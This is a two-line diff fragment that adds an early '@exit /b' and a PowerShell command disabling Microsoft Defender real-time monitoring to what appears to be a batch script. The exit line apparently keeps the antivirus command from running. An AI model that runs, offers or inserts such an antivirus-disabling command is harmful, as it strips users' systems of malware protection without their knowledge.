@@ -1,0 +1,2 @@
+@exit /b
+powershell Set-MpPreference -DisableRealtimeMonitoring $true
